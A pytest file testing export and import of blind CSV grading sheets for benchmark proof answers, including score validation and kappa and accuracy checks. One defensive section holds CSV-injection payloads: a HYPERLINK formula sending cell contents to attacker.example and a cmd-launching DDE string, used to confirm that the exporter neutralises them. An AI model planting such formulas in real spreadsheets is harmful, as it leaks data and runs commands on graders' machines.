"""Blind grading sheets for GTBench proofs: export, blindness, validation, kappa and accuracy."""

from __future__ import annotations

import csv
import math
import os
import shutil
import tracemalloc
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from fractions import Fraction
from pathlib import Path
from typing import Any, Literal

import pytest
from inspect_ai import Task, eval, task
from inspect_ai.dataset import Sample
from inspect_ai.log import (
    EvalConfig,
    EvalDataset,
    EvalLog,
    EvalSample,
    EvalSpec,
    read_eval_log,
    write_eval_log,
)
from inspect_ai.model import ModelOutput
from inspect_ai.scorer import Score, Scorer, Target, scorer
from inspect_ai.solver import TaskState, generate

from bounded import within
from ramsey_inspect.cli import main as cli_main
from ramsey_inspect.reports.log_files import NoLogsError
from ramsey_inspect.reports.sheets import export_sheets, import_sheets, parse_score
from ramsey_inspect.reports.sheets.layout import KEY_FILE, SHEET_COLUMNS, default_key_path

PROBLEMS = ["T3_001", "T3_002", "T3_003", "T3_004"]
# An answer with every CSV hazard: commas, quotes, newlines, non-ASCII mathematics.
TRICKY = 'Let G be 3-connected, so "fans" exist;\nhence χ(G) ≤ 3,\r\nwhich, QED.'

# Scores each grader gives, per (model, problem), in PROBLEMS order; written in varied forms.
SCORES: dict[str, dict[str, list[str]]] = {
    "grader_1": {"alpha": ["1", "1.0", ".5", "0"], "beta": ["1", "0", "0.0", "0.5"]},
    "grader_2": {"alpha": ["1", "0.5", "0.5", "0"], "beta": ["1", "1", "0", "0"]},
    "grader_3": {"alpha": ["1", "1", "1", "0"], "beta": ["0.5", "0", "0", "0"]},
}
# The judge: True / False, None = unscored (NaN).
JUDGE: dict[str, list[bool | None]] = {
    "alpha": [True, True, False, False],
    "beta": [True, True, False, None],
}
MODELS = {"alpha": ("mockllm/alpha-model", "zero_shot"), "beta": ("mockllm/beta-model", "cot")}


def _judge_score(correct: bool | None) -> Score:
    if correct is None:
        return Score(
            value=math.nan,
            metadata={
                "correct": None,
                "failure_type": None,
                "justification": "judge gave no verdict",
                "decided_by": "judge",
            },
        )
    return Score(
        value="C" if correct else "I",
        metadata={
            "correct": correct,
            "failure_type": None if correct else "B",
            "justification": "one sentence",
            "decided_by": "judge",
        },
    )


def _sample(
    problem: str, epoch: int, group: int, kind: str, answer: str, judge: Score
) -> EvalSample:
    return EvalSample(
        id=problem,
        epoch=epoch,
        input=f"Prove statement {problem}.",
        target=f"Reference proof of {problem}.",
        output=ModelOutput.from_content("m", answer),
        scores={"gtbench_scorer": judge},
        metadata={
            "group": group,
            "evaluation_type": kind,
            "question": f"Prove statement {problem}, with care.",
            "ground_truth": f"Reference proof of {problem}:\nby induction, trivially.",
        },
    )


def _write_log(
    path: Path,
    who: str,
    epochs: int = 2,
    answers: dict[str, str] | None = None,
    status: Literal["started", "success", "cancelled", "error"] = "success",
    problems: Sequence[str] = PROBLEMS,
    **spec_fields: Any,
) -> Path:
    """A GTBench-shaped log of ``problems``; ``answers`` replaces some answers (by problem id)."""
    model, prompting = MODELS[who]
    samples = []
    for epoch in range(1, epochs + 1):
        for i, problem in enumerate(PROBLEMS):
            if problem not in problems:
                continue
            answer = TRICKY if i == 0 else f"Proof {i} (epoch {epoch}): obvious, really."
            answer = (answers or {}).get(problem, answer)
            samples.append(_sample(problem, epoch, 3, "proof", answer, _judge_score(JUDGE[who][i])))
        # Not for graders: a Group 1 exact-match sample and a Group 2 proof.
        samples.append(_sample("T1_001", epoch, 1, "exact_match", "42", _judge_score(True)))
        samples.append(_sample("T2_001", epoch, 2, "proof", "Proof.", _judge_score(False)))
    spec = EvalSpec(
        created=spec_fields.pop("created", "2025-06-01T00:00:00+00:00"),
        task="gtbench",
        dataset=EvalDataset(name="gtbench"),
        model=model,
        config=EvalConfig(epochs=epochs),
        task_args={"prompting": prompting},
        **spec_fields,
    )
    log = EvalLog(status=status, eval=spec, samples=samples)
    write_eval_log(log, str(path))
    return path


@pytest.fixture
def log_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "logs"
    folder.mkdir()
    _write_log(folder / "alpha.eval", "alpha")
    _write_log(folder / "beta.eval", "beta")
    return folder


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def _fill(folder: Path) -> None:
    """Fill every sheet with SCORES, looking each code up in the key (as a test may)."""
    key = {r["code"]: r for r in _read(default_key_path(folder))}
    who = {model: name for name, (model, _) in MODELS.items()}
    for grader, table in SCORES.items():
        path = folder / f"{grader}.csv"
        rows = _read(path)
        for row in rows:
            k = key[row["code"]]
            score = table[who[k["model"]]][PROBLEMS.index(k["problem_id"])]
            row["score"] = score
            row["failure_type"] = "" if float(score) == 1 else "D"
            row["justification"] = "Checked against the reference."
        _write(path, rows)


def _binary(grader: str, who: str) -> list[int]:
    return [int(float(s) == 1) for s in SCORES[grader][who]]


def _hand_kappa(a: list[int], b: list[int]) -> float:
    """Cohen's kappa from its definition: (po - pe) / (1 - pe)."""
    n = len(a)
    po = Fraction(sum(x == y for x, y in zip(a, b, strict=True)), n)
    pe = Fraction(sum(a), n) * Fraction(sum(b), n) + Fraction(n - sum(a), n) * Fraction(
        n - sum(b), n
    )
    return float((po - pe) / (1 - pe))


# -------------------------------------------------------------------------------------------
# Export


def test_export_writes_blind_shuffled_sheets_key_and_readme(log_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "sheets"
    result = export_sheets([log_dir], out, graders=3, seed=0)

    assert result.n_answers == 8  # 2 logs x 4 Group 3 proofs, epoch 1 only
    # The folder graders receive holds no key: it is the sibling file sheets_KEY_....
    assert sorted(p.name for p in out.iterdir()) == [
        "README.txt",
        "grader_1.csv",
        "grader_2.csv",
        "grader_3.csv",
    ]
    assert result.key == tmp_path.resolve() / f"sheets_{KEY_FILE}"
    key = _read(result.key)
    assert len(key) == 8
    assert {(r["model"], r["prompting"]) for r in key} == set(MODELS.values())
    assert {r["epoch"] for r in key} == {"1"}
    assert {r["group"] for r in key} == {"3"}
    assert {r["problem_id"] for r in key} == set(PROBLEMS)
    alpha_1 = next(
        r for r in key if r["model"] == "mockllm/alpha-model" and r["problem_id"] == "T3_001"
    )
    assert (alpha_1["judge_correct"], alpha_1["judge_failure_type"]) == ("true", "")
    beta_4 = next(
        r for r in key if r["model"] == "mockllm/beta-model" and r["problem_id"] == "T3_004"
    )
    assert beta_4["judge_correct"] == ""  # unscored by the judge
    assert Path(alpha_1["log_file"]).name == "alpha.eval"

    codes = {r["code"] for r in key}
    assert all(len(c) == 8 and int(c, 16) >= 0 for c in codes)
    orders = []
    for g in (1, 2, 3):
        path = out / f"grader_{g}.csv"
        text = path.read_text(encoding="utf-8-sig")
        for secret in ("alpha", "beta", "mockllm", "zero_shot", "cot", ".eval", "judge"):
            assert secret not in text.lower()
        with path.open(encoding="utf-8-sig", newline="") as f:
            assert tuple(next(csv.reader(f))) == SHEET_COLUMNS
        rows = _read(path)
        assert {r["code"] for r in rows} == codes
        assert len(rows) == 8
        assert all(r["score"] == r["failure_type"] == r["justification"] == "" for r in rows)
        tricky = [r for r in rows if r["problem_id"] == "T3_001"]
        assert [r["model_answer"] for r in tricky] == [TRICKY, TRICKY]
        assert tricky[0]["question"] == "Prove statement T3_001, with care."
        assert tricky[0]["reference_proof"].startswith("Reference proof of T3_001:\nby")
        orders.append([r["code"] for r in rows])
    assert len({tuple(o) for o in orders}) == 3  # every grader has a different order
    readme = (out / "README.txt").read_text(encoding="utf-8")
    assert "failure_type" in readme
    assert "0.5" in readme
    assert result.key.name in readme
    assert "outside" in readme

    # The same logs and seed give the same files; another seed gives other codes.
    again = export_sheets([log_dir / "beta.eval", log_dir / "alpha.eval"], tmp_path / "again")
    assert result.key.read_bytes() == again.key.read_bytes()
    for name in ("grader_1.csv", "grader_2.csv", "grader_3.csv"):
        assert (out / name).read_bytes() == (again.out_dir / name).read_bytes()
    other = export_sheets([log_dir], tmp_path / "other", seed=1)
    assert {r["code"] for r in _read(other.key)} != codes


def test_export_epochs_groups_and_overwrite_guard(log_dir: Path, tmp_path: Path) -> None:
    every = export_sheets([log_dir], tmp_path / "all", graders=2, epochs=None)
    assert every.n_answers == 16
    assert len(every.sheets) == 2
    assert {r["epoch"] for r in _read(every.key)} == {"1", "2"}
    proofs = export_sheets([log_dir], tmp_path / "g23", groups=(2, 3))
    assert proofs.n_answers == 10  # the Group 1 exact-match answer is never a proof
    with pytest.raises(FileExistsError, match="grader_1.csv"):
        export_sheets([log_dir], tmp_path / "all")
    export_sheets([log_dir], tmp_path / "all", graders=1, force=True)
    assert sorted(p.name for p in (tmp_path / "all").glob("grader_*.csv")) == ["grader_1.csv"]
    with pytest.raises(ValueError, match="no proof answers"):
        export_sheets([log_dir], tmp_path / "none", groups=(4,))
    # The same answers reached through two different log files are refused.
    shutil.copy(log_dir / "alpha.eval", log_dir / "alpha-copy.eval")
    with pytest.raises(ValueError, match="appears in both"):
        export_sheets([log_dir], tmp_path / "dup")


# -------------------------------------------------------------------------------------------
# Import: accuracy and kappa against a hand computation


@pytest.fixture
def filled(log_dir: Path, tmp_path: Path) -> Path:
    out = tmp_path / "filled"
    export_sheets([log_dir], out, graders=3, seed=7)
    _fill(out)
    return out


def test_import_reports_accuracy_and_kappa(filled: Path) -> None:
    pytest.importorskip("sklearn")
    report = import_sheets(filled)

    assert report.graders == ["grader_1", "grader_2", "grader_3"]
    acc = report.accuracy
    alpha, beta = MODELS["alpha"], MODELS["beta"]
    # Binarised: correct only when scored 1. alpha: g1 1,1,.5,0 -> 2/4; g2 -> 1/4; g3 -> 3/4.
    assert acc.loc[alpha, "grader_1"] == 0.5
    assert acc.loc[alpha, "grader_2"] == 0.25
    assert acc.loc[alpha, "grader_3"] == 0.75
    assert acc.loc[alpha, "human_mean"] == pytest.approx(0.5)
    assert acc.loc[alpha, "judge"] == 0.5
    assert acc.loc[alpha, "judge_n"] == 4
    assert acc.loc[beta, "grader_1"] == 0.25
    assert acc.loc[beta, "grader_2"] == 0.5
    assert acc.loc[beta, "grader_3"] == 0.0
    assert acc.loc[beta, "human_mean"] == pytest.approx(0.25)
    assert acc.loc[beta, "judge"] == pytest.approx(2 / 3)  # 3 scored, 2 correct
    assert acc.loc[beta, "judge_n"] == 3
    assert list(acc["n"]) == [4, 4]
    # Half credit for 0.5, not binarised: alpha g1 = (1 + 1 + .5 + 0) / 4.
    assert report.mean_score.loc[alpha, "grader_1"] == pytest.approx(0.625)

    g1 = _binary("grader_1", "alpha") + _binary("grader_1", "beta")
    g2 = _binary("grader_2", "alpha") + _binary("grader_2", "beta")
    assert g1 == [1, 1, 0, 0, 1, 0, 0, 0]
    assert g2 == [1, 0, 0, 0, 1, 1, 0, 0]
    # By hand: po = 6/8, pe = (3/8)(3/8) + (5/8)(5/8) = 34/64, kappa = (48-34)/(64-34) = 7/15.
    assert _hand_kappa(g1, g2) == pytest.approx(7 / 15)
    kappa, n = report.kappa, report.kappa_n
    assert list(kappa.columns) == ["cot", "zero_shot", "all"]
    assert kappa.loc["grader_1 vs grader_2", "all"] == pytest.approx(7 / 15)
    assert n.loc["grader_1 vs grader_2", "all"] == 8
    # Per condition, as in the paper's Table 6.
    za, zb = _binary("grader_1", "alpha"), _binary("grader_2", "alpha")
    assert kappa.loc["grader_1 vs grader_2", "zero_shot"] == pytest.approx(_hand_kappa(za, zb))
    assert _hand_kappa(za, zb) == pytest.approx(0.5)
    g3 = _binary("grader_3", "alpha") + _binary("grader_3", "beta")
    assert kappa.loc["grader_1 vs grader_3", "all"] == pytest.approx(_hand_kappa(g1, g3))
    assert kappa.loc["grader_2 vs grader_3", "all"] == pytest.approx(_hand_kappa(g2, g3))
    # Against the judge: only the 7 answers it scored (beta T3_004 is unscored).
    judge = [1, 1, 0, 0, 1, 1, 0]
    assert kappa.loc["grader_1 vs judge", "all"] == pytest.approx(_hand_kappa(g1[:7], judge))
    assert n.loc["grader_1 vs judge", "all"] == 7
    assert kappa.loc["grader_2 vs judge", "all"] == pytest.approx(_hand_kappa(g2[:7], judge))
    human = [_hand_kappa(g1, g2), _hand_kappa(g1, g3), _hand_kappa(g2, g3)]
    assert kappa.loc["mean grader vs grader", "all"] == pytest.approx(sum(human) / 3)
    # beta, grader 3 vs judge: grader 3 marks nothing correct, the judge 2 of 3 -> kappa 0.
    assert kappa.loc["grader_3 vs judge", "cot"] == pytest.approx(0.0)

    ft = report.failure_types
    assert ft.loc["grader_1", "D"] == 5
    assert ft.loc["grader_1"].sum() == 5
    assert ft.loc["judge", "B"] == 3  # the judge's three "I" verdicts
    text = report.to_markdown()
    assert "only when that grader scored it 1" in text
    assert "| mockllm/alpha-model | zero_shot | 4 | 50.0% | 25.0% | 75.0% |" in text
    assert "0.47 (moderate; n=8)" in text


def test_lenient_binarisation_counts_half_credit(filled: Path) -> None:
    pytest.importorskip("sklearn")
    report = import_sheets(filled, binarise="lenient")
    assert report.accuracy.loc[MODELS["alpha"], "grader_1"] == 0.75  # 1, 1, .5 of 4
    assert "scored 0.5 or 1" in report.to_markdown()


# -------------------------------------------------------------------------------------------
# Import: bad sheets are rejected, naming the file and the row


def _drop_row(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    return rows[:2] + rows[3:]


def _set(index: int, **changes: str) -> Callable[[list[dict[str, str]]], list[dict[str, str]]]:
    def edit(rows: list[dict[str, str]]) -> list[dict[str, str]]:
        rows[index].update(changes)
        return rows

    return edit


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (_drop_row, r"grader_2\.csv: 1 of the key's 8 rows are missing"),
        (
            _set(3, score="0.7", failure_type="B"),
            r"grader_2\.csv, row 5 \(code \w+\): score '0\.7'",
        ),
        (_set(3, code="deadbeef"), r"grader_2\.csv, row 5: unknown code 'deadbeef'"),
        (
            _set(3, score="0", failure_type=""),
            r"grader_2\.csv, row 5 \(code \w+\): score 0 needs a failure type",
        ),
        (_set(3, score="1", failure_type="B"), r"grader_2\.csv, row 5 .*empty failure type"),
        (_set(3, failure_type="F", score="0"), r"grader_2\.csv, row 5 .*failure type 'F'"),
        (_set(3, score=""), r"grader_2\.csv, row 5 .*score is empty"),
        (_set(3, problem_id="T3_999"), r"grader_2\.csv, row 5: code \w+ belongs to problem"),
    ],
)
def test_bad_sheets_are_rejected(
    filled: Path, edit: Callable[[list[dict[str, str]]], list[dict[str, str]]], message: str
) -> None:
    path = filled / "grader_2.csv"
    _write(path, edit(_read(path)))
    with pytest.raises(ValueError, match=message):
        import_sheets(filled)


def test_changed_code_is_also_reported_missing(filled: Path) -> None:
    path = filled / "grader_1.csv"
    rows = _read(path)
    rows[0]["code"] = rows[0]["code"][::-1] + "x"
    rows[1]["code"] = rows[2]["code"]  # a repeated code
    _write(path, rows)
    with pytest.raises(ValueError, match="problem") as info:
        import_sheets(filled)
    text = str(info.value)
    assert "grader_1.csv, row 2: unknown code" in text
    assert "grader_1.csv, row 4: code" in text
    assert "repeats row 3" in text
    assert "grader_1.csv: 2 of the key's 8 rows are missing" in text


def test_semicolon_csv_and_type_prefix_are_accepted(filled: Path) -> None:
    """A sheet re-saved by a spreadsheet in a comma-decimal locale (';' delimiter)."""
    pytest.importorskip("sklearn")
    path = filled / "grader_3.csv"
    rows = _read(path)
    for row in rows:
        if row["failure_type"]:
            row["failure_type"] = "type d"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]), delimiter=";")
        writer.writeheader()
        writer.writerows(rows)
    report = import_sheets(filled)
    assert report.failure_types.loc["grader_3", "D"] == 5


@pytest.mark.parametrize(
    ("text", "value"),
    [("0", 0.0), ("0.0", 0.0), (".5", 0.5), ("1.0", 1.0), (" 1 ", 1.0), ("0,5", 0.5)],
)
def test_score_forms(text: str, value: float) -> None:
    assert parse_score(text) == value


@pytest.mark.parametrize("text", ["0.7", "2", "nan", "half", "1,5", "0.5.1", ""])
def test_bad_score_forms(text: str) -> None:
    with pytest.raises(ValueError, match="score"):
        parse_score(text)


# -------------------------------------------------------------------------------------------
# Command line, and a log written by a real (mockllm) eval


def test_cli_round_trip(log_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("sklearn")
    out = tmp_path / "cli"
    code = cli_main(
        [
            "gtbench",
            "export-sheets",
            str(log_dir),
            "--out",
            str(out),
            "--graders",
            "3",
            "--seed",
            "3",
        ]
    )
    assert code == 0
    assert "wrote 3 grading sheets with 8 answers" in capsys.readouterr().out
    assert cli_main(["gtbench", "import-sheets", str(out)]) == 1  # still empty
    assert "score is empty" in capsys.readouterr().err
    _fill(out)
    assert cli_main(["gtbench", "import-sheets", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "Cohen's kappa" in printed
    assert "grader_1 vs judge" in printed
    assert (
        cli_main(["gtbench", "export-sheets", str(log_dir), "--out", str(out)]) == 1
    )  # no overwrite
    assert "already exist" in capsys.readouterr().err


def test_key_is_written_apart_from_the_sheets(
    log_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Graders receive the sheets folder, so the key never lands in it."""
    out, key = tmp_path / "to-graders", tmp_path / "private" / "key.csv"
    args = ["gtbench", "export-sheets", str(log_dir), "--out", str(out), "--graders", "3"]
    assert cli_main([*args, "--key", str(key)]) == 0
    assert str(key) in capsys.readouterr().out
    assert key.is_file()
    assert not any("key" in p.name.lower() for p in out.iterdir())
    assert not default_key_path(out).exists()
    assert cli_main(["gtbench", "import-sheets", str(out)]) == 2  # not where export puts it
    assert "--key" in capsys.readouterr().err
    _fill_with_key(out, key)
    assert cli_main(["gtbench", "import-sheets", str(out), "--key", str(key)]) == 0
    assert "Cohen's kappa" in capsys.readouterr().out
    # A key asked for inside the sheets folder is refused before anything is written.
    inside = tmp_path / "inside"
    assert cli_main([*args[:4], str(inside), "--key", str(inside / "k.csv")]) == 2
    assert "inside the sheets folder" in capsys.readouterr().err
    assert not inside.exists()


def test_sheets_with_the_key_inside_from_an_older_export_still_import(filled: Path) -> None:
    default_key_path(filled).rename(filled / KEY_FILE)
    assert import_sheets(filled).graders == ["grader_1", "grader_2", "grader_3"]


def _fill_with_key(folder: Path, key: Path) -> None:
    default_key_path(folder).parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(key, default_key_path(folder))
    try:
        _fill(folder)
    finally:
        default_key_path(folder).unlink()


@scorer(metrics=[])
def gtbench_scorer() -> Scorer:
    """Stands in for GTBench's judge: an answer saying "obvious" is wrong."""

    async def score(state: TaskState, target: Target) -> Score:
        return _judge_score("obvious" not in state.output.completion)

    return score


@task
def gtbench_probe(prompting: str = "zero_shot") -> Task:
    """Two Group 3 proof samples shaped like GTBench's."""
    samples = [
        Sample(
            id=f"T3_00{i}",
            input=f"Prove claim {i}.",
            target="ref",
            metadata={
                "group": 3,
                "evaluation_type": "proof",
                "question": f"Prove claim {i}.",
                "ground_truth": "ref",
            },
        )
        for i in (1, 2)
    ]
    return Task(dataset=samples, solver=generate(), scorer=gtbench_scorer())


def test_real_eval_log(
    tmp_path: Path, scripted_model: Callable[[Callable[[str], str]], Any]
) -> None:
    """The fields read from a log written by ``eval`` itself (mockllm, no network)."""
    model = scripted_model(lambda prompt: "Proof, obvious." if "1" in prompt else "A proof.")
    [log] = eval(
        gtbench_probe(prompting="cot"), model=model, display="none", log_dir=str(tmp_path / "real")
    )
    assert log.status == "success"
    result = export_sheets([log.location], tmp_path / "real-sheets", graders=2)
    assert result.n_answers == 2
    [row1, row2] = sorted(_read(result.key), key=lambda r: r["problem_id"])
    assert row1["model"] == "mockllm/model"
    assert row1["judge_correct"] == "false"
    assert row2["judge_correct"] == "true"
    answers = {r["problem_id"]: r["model_answer"] for r in _read(result.sheets[0])}
    assert answers == {"T3_001": "Proof, obvious.", "T3_002": "A proof."}
    assert row1["prompting"] == "cot"
    assert read_eval_log(log.location).samples is not None


# -------------------------------------------------------------------------------------------
# Hostile answers, damaged and retried logs, paths that cannot be used

# Answers a spreadsheet would run as formulas (OWASP "CSV Injection"), and a NUL byte.
FORMULAS = {
    "T3_001": '=HYPERLINK("http://attacker.example/?"&A1,"Click for the reference")',
    "T3_002": "+1+1",
    "T3_003": "-2+3 is the proof",
    "T3_004": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@contextmanager
def _csv_cells_up_to(size: int) -> Iterator[None]:
    """Let this test's own csv reading take long cells, then restore the default."""
    before = csv.field_size_limit()
    csv.field_size_limit(size)
    try:
        yield
    finally:
        csv.field_size_limit(before)


def _fill_all(folder: Path, score: str = "1", strip_quotes: bool = False) -> None:
    """Every row of every sheet gets ``score``; optionally the way a spreadsheet re-saves it."""
    with _csv_cells_up_to(10**7):
        for sheet in folder.glob("grader_*.csv"):
            rows = _read(sheet)
            for row in rows:
                row["score"] = score
                row["failure_type"] = "" if score == "1" else "B"
                row["justification"] = "Checked."
                if strip_quotes:  # the quote prefix is display-only: re-saving drops it
                    for column in ("problem_id", "model_answer"):
                        if row[column].startswith("'"):
                            row[column] = row[column][1:]
            _write(sheet, rows)


def test_formula_answers_are_written_as_text(tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    answers = {**FORMULAS, "T3_001": FORMULAS["T3_001"] + "\x00 with a NUL"}
    _write_log(logs / "alpha.eval", "alpha", answers=answers)
    _write_log(logs / "beta.eval", "beta", answers={"T3_002": "\tTab first", "T3_003": "\rCR"})
    out = tmp_path / "sheets"
    export_sheets([logs], out, graders=1)
    raw = (out / "grader_1.csv").read_text(encoding="utf-8-sig")
    assert "\x00" not in raw
    rows = _read(out / "grader_1.csv")
    seen = {r["model_answer"] for r in rows}
    for answer in FORMULAS.values():
        if answer != FORMULAS["T3_001"]:
            assert "'" + answer in seen
    assert "'" + FORMULAS["T3_001"] + "\ufffd with a NUL" in seen
    assert {"'\tTab first", "'\rCR"} <= seen
    for row in rows:  # nothing a spreadsheet would evaluate
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "extra '" in (out / "README.txt").read_text(encoding="utf-8")


@pytest.mark.parametrize("strip_quotes", [False, True])
def test_neutralised_cells_still_match_the_key(tmp_path: Path, strip_quotes: bool) -> None:
    """Problem ids and answers that needed a quote; the sheet re-saved with or without it."""
    logs = tmp_path / "logs"
    logs.mkdir()
    spec = EvalSpec(
        created="2025-06-01T00:00:00+00:00",
        task="gtbench",
        dataset=EvalDataset(name="gtbench"),
        model="mockllm/alpha-model",
        config=EvalConfig(epochs=1),
        task_args={"prompting": "-minus-first"},
    )
    samples = [
        _sample(pid, 1, 3, "proof", answer, _judge_score(True))
        for pid, answer in [("-T3_neg", "=1+1"), ("=T3_eq", "'quoted"), ("T3_plain", "+x")]
    ]
    write_eval_log(EvalLog(status="success", eval=spec, samples=samples), str(logs / "a.eval"))
    out = tmp_path / "sheets"
    export_sheets([logs], out, graders=2)
    _fill_all(out, strip_quotes=strip_quotes)
    report = import_sheets(out)
    assert sorted(report.answers["problem_id"]) == ["-T3_neg", "=T3_eq", "T3_plain"]
    assert set(report.answers["prompting"]) == {"-minus-first"}
    assert report.accuracy["grader_1"].tolist() == [1.0]


def test_an_answer_longer_than_the_csv_default_round_trips(tmp_path: Path) -> None:
    """200,000 characters: more than csv's default cell limit (131,072)."""
    logs = tmp_path / "logs"
    logs.mkdir()
    long_answer = "Suppose not. " + "x" * 199_987
    assert len(long_answer) == 200_000
    _write_log(logs / "alpha.eval", "alpha", answers={"T3_002": long_answer})
    out = tmp_path / "sheets"
    result = export_sheets([logs], out, graders=2)
    assert any("exceed 32,767 characters" in w for w in result.warnings)
    _fill_all(out, score="0.5")
    with _csv_cells_up_to(10**7):
        answers = {r["problem_id"]: r["model_answer"] for r in _read(out / "grader_1.csv")}
    assert answers["T3_002"] == long_answer
    limit = csv.field_size_limit()
    report = import_sheets(out)
    assert csv.field_size_limit() == limit  # the wider limit does not leak
    assert report.mean_score["human_mean"].tolist() == [0.5]
    assert cli_main(["gtbench", "import-sheets", str(out)]) == 0


def test_damaged_logs_are_skipped_and_named(log_dir: Path, tmp_path: Path) -> None:
    whole = (log_dir / "alpha.eval").read_bytes()
    (log_dir / "truncated.eval").write_bytes(whole[: len(whole) // 3])
    (log_dir / "junk.eval").write_text("not a zip file", encoding="utf-8")
    result = export_sheets([log_dir], tmp_path / "sheets")
    assert result.n_answers == 8
    for name in ("truncated.eval", "junk.eval"):
        [line] = [w for w in result.warnings if name in w]
        assert "not a readable Inspect log" in line
    for name in ("alpha.eval", "beta.eval"):
        (log_dir / name).unlink()
    with pytest.raises(NoLogsError, match="could be read"):
        export_sheets([log_dir], tmp_path / "nothing")


def test_only_the_newest_attempt_of_a_retried_eval_is_graded(tmp_path: Path) -> None:
    """A cancelled log and the retry that completes it share the eval's task_id."""
    logs = tmp_path / "logs"
    logs.mkdir()
    first = _write_log(
        logs / "first.eval",
        "alpha",
        status="cancelled",
        problems=PROBLEMS[:2],
        task_id="TASK1",
        created="2025-06-01T10:00:00+00:00",
    )
    retry = _write_log(
        logs / "retry.eval",
        "alpha",
        answers={"T3_001": "The retry's proof."},
        task_id="TASK1",
        created="2025-06-01T11:00:00+00:00",
    )
    result = export_sheets([logs], tmp_path / "sheets")
    assert result.n_answers == 4
    assert {r["log_file"] for r in _read(result.key)} == {str(retry)}
    [note] = [w for w in result.warnings if "superseded" in w]
    assert f"{first} (cancelled) is superseded by its retry {retry}" in note
    answers = {r["problem_id"]: r["model_answer"] for r in _read(result.sheets[0])}
    assert answers["T3_001"] == "The retry's proof."


@pytest.mark.parametrize("kind", ["proc", "file", "through_file"])
def test_an_unwritable_out_fails_in_one_line(
    log_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    if kind == "proc" and not Path("/proc").is_dir():
        pytest.skip("no /proc here")
    a_file = tmp_path / "a_file.txt"
    a_file.write_text("x", encoding="utf-8")
    out = {
        "proc": "/proc/ramsey-test/sheets",
        "file": str(a_file),
        "through_file": str(a_file / "s"),
    }
    assert cli_main(["gtbench", "export-sheets", str(log_dir), "--out", out[kind]]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert err.startswith(
        f"ramsey-inspect gtbench export-sheets: error: cannot write {out[kind]}: "
    )


@pytest.mark.parametrize("kind", ["missing", "file", "through_file"])
def test_import_from_an_unusable_folder_fails_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    a_file = tmp_path / "a_file.txt"
    a_file.write_text("x", encoding="utf-8")
    folder = {"missing": tmp_path / "nowhere", "file": a_file, "through_file": a_file / "s"}[kind]
    assert cli_main(["gtbench", "import-sheets", str(folder)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert err.startswith(f"ramsey-inspect gtbench import-sheets: error: cannot read {folder}: ")


# -------------------------------------------------------------------------------------------
# The sheets that come back are the sheets that went out


def test_the_key_records_the_sheets_sent(log_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "sent"
    export_sheets([log_dir], out, graders=2, seed=1)
    rows = _read(default_key_path(out))
    [sent] = {r["sheets_sent"] for r in rows}
    names = [item.split(":")[0] for item in sent.split()]
    sizes = [int(item.split(":")[1]) for item in sent.split()]
    assert names == ["grader_1.csv", "grader_2.csv"]
    assert sizes == [(out / name).stat().st_size for name in names]


def _copy_over(folder: Path, source: str, target: str) -> None:
    shutil.copyfile(folder / source, folder / target)


def _folder_for(folder: Path, name: str) -> None:
    (folder / name).unlink()
    (folder / name).mkdir()


def _grown(folder: Path, name: str) -> None:
    """A million rows' worth of bytes more, written sparse (no disk, no time)."""
    with (folder / name).open("r+b") as f:
        f.truncate(50 << 20)


REFUSALS: dict[str, tuple[Callable[[Path], None], str]] = {
    "missing": (lambda f: (f / "grader_2.csv").unlink(), "grader_2.csv sent out but not in"),
    "extra": (
        lambda f: _copy_over(f, "grader_1.csv", "grader_4.csv"),
        "grader_4.csv in {folder} but not sent out (the key lists grader_1.csv, "
        "grader_2.csv, grader_3.csv)",
    ),
    "duplicate": (
        lambda f: _copy_over(f, "grader_1.csv", "grader_01.csv"),
        "grader_01.csv in {folder} but not sent out",
    ),
    "copy in place of another": (
        lambda f: _copy_over(f, "grader_1.csv", "grader_2.csv"),
        "grader_2.csv has its rows in the order sent to grader_1.csv",
    ),
    "folder": (lambda f: _folder_for(f, "grader_3.csv"), "grader_3.csv is a folder, not a sheet"),
    "oversize": (
        lambda f: _grown(f, "grader_2.csv"),
        "grader_2.csv is 50 MiB, more than a filled sheet of 8 answers can be",
    ),
}


@pytest.mark.parametrize("case", list(REFUSALS))
def test_sheets_not_as_sent_are_refused_in_one_line(
    filled: Path, capsys: pytest.CaptureFixture[str], case: str
) -> None:
    change, says = REFUSALS[case]
    change(filled)
    tracemalloc.start()
    try:
        code = cli_main(["gtbench", "import-sheets", str(filled)])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    err = capsys.readouterr().err
    assert code == 1, err
    assert err.count("\n") == 1, err
    assert err.startswith("ramsey-inspect gtbench import-sheets: error: ")
    assert says.format(folder=filled) in err
    assert peak < 20 << 20  # the 50 MiB sheet is never read


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_sheet_is_refused_without_waiting(
    filled: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fifo = filled / "grader_2.csv"
    fifo.unlink()
    os.mkfifo(fifo)
    code = within(lambda: cli_main(["gtbench", "import-sheets", str(filled)]), fifo=fifo)
    err = capsys.readouterr().err
    assert code == 1
    assert err.count("\n") == 1
